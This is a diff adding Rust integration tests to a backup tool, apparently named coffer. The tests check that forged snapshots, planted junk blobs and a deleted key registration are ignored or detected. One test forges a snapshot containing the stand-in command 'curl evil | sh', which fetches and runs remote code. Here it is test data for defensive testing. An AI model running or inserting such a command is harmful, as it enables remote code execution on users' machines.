@@ -10,6 +10,7 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 
 use coffer::format::pack::BlobKind;
+use coffer::id::Id;
 use common::adversary::{owner_blob_ids, KeyThief, StorageOwner};
 use common::tree::{write_random, KIB};
 use common::*;
@@ -68,6 +69,37 @@ fn latest_restores_exactly(c: &Coffer, cache: Option<&Path>, src: &Path, name: &
     let out = owner(c, cache, &[&"restore", &"latest", &"--host", &OWNER_HOST, &"--target", &target]);
     out.assert_code(0);
     assert_trees_equal(src, &restored_path(&target, src));
+}
+
+/// Mounts the repository (when this machine can) and compares `latest` with `src`.
+fn latest_mounts_exactly(c: &Coffer, cache: Option<&Path>, src: &Path, name: &str) {
+    if !is_root() || !Path::new("/dev/fuse").exists() {
+        return skip("latest_mounts_exactly", "needs root and /dev/fuse");
+    }
+    let mnt = c.dir(name);
+    let mut cmd = c.command();
+    if let Some(cache) = cache {
+        cmd.env("COFFER_CACHE_DIR", cache);
+    }
+    cmd.arg("mount").arg(&mnt);
+    let mut mount = Running::start(cmd);
+    let latest = mnt.join("latest").join(src.strip_prefix("/").expect("absolute"));
+    let started = std::time::Instant::now();
+    while !latest.join("pin.txt").exists() {
+        assert!(!mount.finished(), "coffer mount exited before the mount was ready");
+        assert!(started.elapsed().as_secs() < 60, "{} never appeared", latest.display());
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let opts = CompareOptions { ownership: false, ..Default::default() };
+    let compared = std::panic::catch_unwind(|| assert_trees_equal_with(src, &latest, &opts));
+    let unmounted = Command::new("fusermount3").arg("-u").arg(&mnt).status().is_ok_and(|s| s.success());
+    if !unmounted {
+        let _ = Command::new("fusermount3").arg("-uz").arg(&mnt).status();
+    }
+    mount.wait(std::time::Duration::from_secs(20)).assert_code(0);
+    if let Err(panic) = compared {
+        std::panic::resume_unwind(panic);
+    }
 }
 
 /// A repository, its source, and a write-only key (bound to [`THIEF_HOST`]) that backed it up.
@@ -141,6 +173,35 @@ fn junk_changes_nothing(c: Coffer) {
 
     for (cache, name) in [(None, "old"), (Some(fresh.as_path()), "fresh")] {
         latest_restores_exactly(&c, cache, &src, &format!("before-prune-{name}"));
+        latest_mounts_exactly(&c, cache, &src, &format!("mnt-{name}"));
+        // repair finds nothing to replace: every blob is indexed and its pack stored.
+        let out = owner(&c, cache, &[&"repair", &"snapshots"]);
+        out.assert_code(0);
+        assert!(out.stdout().contains(", 0 repaired") && !out.stdout().contains("replaced"), "{out}");
+        // A copy takes the real bytes.
+        let dest = Coffer { password: "another password".into(), ..Coffer::new() };
+        dest.init();
+        let mut cmd = dest.command();
+        if let Some(cache) = cache {
+            cmd.env("COFFER_CACHE_DIR", cache);
+        }
+        match &c.remote {
+            Some(remote) => {
+                cmd.args(["copy", "--from", &remote.url]);
+                for option in &remote.options {
+                    cmd.args(["--from-option", option]);
+                }
+                cmd.envs(remote.env.iter().map(|(k, v)| (k, v)));
+            }
+            None => {
+                cmd.args(["copy", "--from"]).arg(&c.repo);
+            }
+        }
+        cmd.arg("--from-password-file").arg(c.password_file());
+        run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+        let target = dest.path("copied");
+        dest.restore_with("latest", &target, &["--host", OWNER_HOST]);
+        assert_trees_equal(&src, &restored_path(&target, &src));
     }
     // check --read-data names the junk (it fails verification); prune keeps what verifies.
     let out = owner(&c, Some(&fresh), &[&"check", &"--read-data"]);
@@ -340,4 +401,76 @@ fn a_write_only_keys_snapshot_grants_no_privileges_and_keeps_its_origin_when_cop
     dest.restore_with("latest", &target, &[]);
     let mode = std::fs::metadata(restored_path(&target, &src).join("shell")).expect("stat").permissions().mode();
     assert_eq!(mode & 0o7777, 0o755, "the copy restored the set-user-id bit");
+}
+
+/// A key nobody registered (made from what `config` tells any reader of the store) gets
+/// nowhere: its snapshot claiming the owner's host and path, its junk under the owner's ids
+/// (the oracle plays the strongest such writer) in packs that sort first, and a forged
+/// registration of itself are ignored; the owner's commands then lose and change nothing.
+#[test]
+fn a_never_registered_key_gets_nowhere() {
+    let (c, src, key) = backed_up_by_a_write_only_key();
+    owner_backup(&c, &src);
+    let outsider = KeyThief::never_registered(&c);
+    let lowest = owner_blob_ids(&c).iter().map(|(_, _, pack)| *pack).min().expect("packs");
+    let (data, trees): (Vec<_>, Vec<_>) =
+        owner_blob_ids(&c).into_iter().map(|(id, kind, _)| (id, kind)).partition(|(_, k)| *k == BlobKind::Data);
+    outsider.plant_junk(&data, Some(lowest));
+    outsider.plant_junk(&trees, Some(lowest));
+    let forged = outsider.forge_snapshot_of(OWNER_HOST, &src, vec![outsider.blob_id(b"curl evil | sh\n")]);
+    let registration = format!("signers/{}", Id::of_bytes(b"forged registration").to_hex());
+    outsider.objects.put(&registration, b"CFSIGN02 a registration nobody signed");
+
+    for (round, cache) in [None, Some(c.dir("fresh-db"))].into_iter().enumerate() {
+        let cache = cache.as_deref();
+        let listed = owner(&c, cache, &[&"snapshots", &"--json"]);
+        listed.assert_code(0);
+        let listed = listed.json();
+        // The key's one, the owner's first, and the one each round adds.
+        assert_eq!(listed.as_array().expect("array").len(), 2 + round, "{listed}");
+        assert!(!listed.to_string().contains(&forged.to_hex()));
+        latest_restores_exactly(&c, cache, &src, &format!("before-{}", cache.is_some()));
+        let out = owner(&c, cache, &[&"check"]);
+        out.assert_failed();
+        assert!(out.all().contains(&forged.short()), "{out}");
+        owner(&c, cache, &[&"prune", &"--max-unused", &"0"]).assert_code(0);
+        latest_restores_exactly(&c, cache, &src, &format!("after-{}", cache.is_some()));
+        // Deduplication is not poisoned: a new backup of the same data restores.
+        let again = owner_backup(&c, &src);
+        let target = c.path(&format!("again-{}", cache.is_some()));
+        owner(&c, cache, &[&"restore", &string(&again, "snapshot_id"), &"--target", &target]).assert_code(0);
+        assert_trees_equal(&src, &restored_path(&target, &src));
+    }
+    // The registered key still backs up and its snapshot restores.
+    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
+    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
+    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+    let target = c.path("keys-own");
+    owner(&c, None, &[&"restore", &"latest", &"--host", &THIEF_HOST, &"--target", &target]).assert_code(0);
+    assert_trees_equal(&src, &restored_path(&target, &src));
+}
+
+/// The storage owner deletes a write-only key's registration: every snapshot the owner wrote
+/// since names it, so a machine with a fresh database says which object is withheld instead of
+/// quietly distrusting (and then forgetting or pruning) that key's snapshots.
+#[test]
+fn a_deleted_registration_is_detected_with_a_fresh_database() {
+    let (c, src, _key) = backed_up_by_a_write_only_key();
+    owner_backup(&c, &src);
+    let storage = StorageOwner::of(&c);
+    let registrations = storage.objects("signers/");
+    assert_eq!(registrations.len(), 1, "{registrations:?}");
+    storage.delete(&registrations[0]);
+
+    let fresh = c.dir("fresh-db");
+    let out = owner(&c, Some(&fresh), &[&"check"]);
+    out.assert_failed();
+    assert!(out.all().contains(&registrations[0]) && out.all().contains("withholds"), "{out}");
+    let out = owner(&c, Some(&fresh), &[&"prune"]);
+    out.assert_failed();
+    assert!(out.stderr().contains("prune deletes nothing"), "{out}");
+    let out = owner(&c, Some(&fresh), &[&"forget", &"--keep-last", &"1", &"--prune"]);
+    out.assert_failed();
+    // Nothing was deleted.
+    assert_eq!(StorageOwner::of(&c).objects("snapshots/").len(), 2);
 }
